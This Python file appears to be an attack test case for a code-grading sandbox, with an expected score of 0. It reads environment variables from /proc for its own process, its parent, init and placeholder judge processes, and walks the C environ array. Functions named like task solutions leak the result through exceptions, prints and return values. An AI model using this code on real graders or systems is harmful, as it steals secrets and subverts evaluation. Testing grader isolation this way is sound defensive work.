# Attack: reads every copy of the environment.
# score: 0
# ruff: noqa

import ctypes
import os


def attack():
    found = [dict(os.environ)]
    for process in ("self", os.getpid(), os.getppid(), "@@JUDGE@@", "@@ZYGOTE@@", 1):
        try:
            with open(f"/proc/{process}/environ", "rb") as stream:
                found.append(stream.read())
        except OSError as error:
            found.append(repr(error))
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    at = 0
    while environ[at]:
        found.append(environ[at])
        at += 1
    return found


def double(x):
    raise RuntimeError(str(attack()))


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
